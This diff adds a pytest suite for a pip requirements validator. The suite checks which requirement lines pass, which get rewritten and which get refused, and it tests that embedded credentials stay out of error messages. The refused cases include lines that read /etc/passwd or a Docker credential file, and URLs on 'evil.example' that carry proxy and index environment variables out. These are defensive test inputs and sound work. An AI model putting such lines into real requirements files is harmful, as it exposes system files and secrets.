@@ -1,0 +1,113 @@
+from __future__ import annotations
+
+import pytest
+
+from modelyard.builder.environment.requirements import (
+    Requirements,
+    checked,
+)
+from modelyard.contract.errors import (
+    BuildFailedError,
+    RequirementsInvalidError,
+    WheelMissingError,
+)
+
+HASH = "--hash=sha256:" + "0" * 64
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "numpy",
+        "numpy==2.3.1",
+        "scikit-learn[alldeps] >=1.6, <2; python_version >= '3.11'",
+        "ruamel.yaml~=0.18",
+        "uvicorn[standard]",
+        "name (>=1)",
+        f"numpy==2.3.1 {HASH} {HASH}",
+        "https://wheels.example/numpy-2.3.1-cp311-cp311-manylinux_2_28_x86_64.whl",
+        "https://wheels.example/a-1-py3-none-any.whl?sig=x#sha256=0",
+        "numpy @ https://wheels.example/numpy-2.3.1-cp311-cp311-linux_x86_64.whl ; python_version > '3'",
+        "pkg[extra]@https://wheels.example/pkg-1-py3-none-any.whl",
+        "--index-url https://index.example/simple",
+        "-i https://me:secret@index.example/simple",
+        "--index-url=https://index.example/simple",
+        "--extra-index-url https://download.pytorch.org/whl/cpu",
+        "--find-links https://wheels.example/",
+        "--no-index",
+        "--require-hashes",
+    ],
+)
+def test_lines_that_are_installed_as_they_are(line: str) -> None:
+    assert checked(line).text == f"{line}\n"
+    assert checked(line).arguments == ()
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("", Requirements("")),
+        ("\ufeff# a comment\r\n\r\nnumpy  # the newest\r\n".removeprefix("\ufeff"), Requirements("numpy\n")),
+        (f"numpy==1 \\\n    {HASH} \\\n    {HASH}", Requirements(f"numpy==1     {HASH}     {HASH}\n")),
+        ("# no end \\\nnumpy", Requirements("numpy\n")),
+        ("a @ https://x.example/a-1-py3-none-any.whl#sha256=1", None),
+        ("--pre\nnumpy", Requirements("numpy\n", ("--prerelease=allow",))),
+        ("--trusted-host=index.example", Requirements("", ("--allow-insecure-host=index.example",))),
+        ("--prefer-binary\n--only-binary :all:\n--use-feature=fast-deps\nnumpy", Requirements("numpy\n")),
+        ("-i https://i.example/", Requirements("-i https://i.example/\n", own_index=True)),
+        (
+            "--extra-index-url https://i.example/",
+            Requirements("--extra-index-url https://i.example/\n", more_indexes=True),
+        ),
+    ],
+)
+def test_what_becomes_of_other_lines(text: str, expected: Requirements | None) -> None:
+    assert checked(text) == (expected or Requirements(f"{text}\n"))
+
+
+@pytest.mark.parametrize(
+    ("line", "error"),
+    [
+        ("-e .", WheelMissingError),
+        ("--editable git+https://github.com/a/b", WheelMissingError),
+        ("git+https://github.com/a/b@main", WheelMissingError),
+        ("b @ git+ssh://git@github.com/a/b", WheelMissingError),
+        ("https://wheels.example/a-1.tar.gz", WheelMissingError),
+        ("a @ https://github.com/a/a/archive/main.zip", WheelMissingError),
+        ("--no-binary :all:", WheelMissingError),
+        ("-r other.txt", RequirementsInvalidError),
+        ("-r /etc/modelyard/registry/.dockerconfigjson", RequirementsInvalidError),
+        ("--requirement=https://example.com/requirements.txt", RequirementsInvalidError),
+        ("-c constraints.txt", RequirementsInvalidError),
+        ("--find-links /wheels", RequirementsInvalidError),
+        ("--index-url file:///simple", RequirementsInvalidError),
+        ("-i https://index.example/simple -r /etc/passwd", RequirementsInvalidError),
+        ("numpy -r /etc/passwd", RequirementsInvalidError),
+        ("numpy --config-settings=a=b", RequirementsInvalidError),
+        ("--index-url https://evil.example/${UV_DEFAULT_INDEX}", RequirementsInvalidError),
+        ("numpy @ https://evil.example/${HTTPS_PROXY}/a.whl", RequirementsInvalidError),
+        ("--target /tmp", RequirementsInvalidError),
+        ("./a-1-py3-none-any.whl", RequirementsInvalidError),
+        ("a-1-py3-none-any.whl", RequirementsInvalidError),
+        ("folder/project", RequirementsInvalidError),
+        ("/etc/passwd", RequirementsInvalidError),
+        (".", RequirementsInvalidError),
+        ("..", RequirementsInvalidError),
+        ("file:///etc/passwd", RequirementsInvalidError),
+        ("a @ file:///etc/passwd", RequirementsInvalidError),
+        ("a@./b.whl", RequirementsInvalidError),
+        ("a[b] @", RequirementsInvalidError),
+        ("!", RequirementsInvalidError),
+    ],
+)
+def test_lines_that_are_refused(line: str, error: type[BuildFailedError]) -> None:
+    with pytest.raises(error, match=r"^pipRequirements: ") as caught:
+        checked(f"numpy\n{line}\n")
+    assert type(caught.value) is error
+
+
+def test_a_refusal_shows_no_credential() -> None:
+    with pytest.raises(WheelMissingError) as caught:
+        checked("a @ git+https://me:s3cret@github.com/a/b")
+    assert "s3cret" not in str(caught.value)
+    assert "github.com/a/b" in str(caught.value)
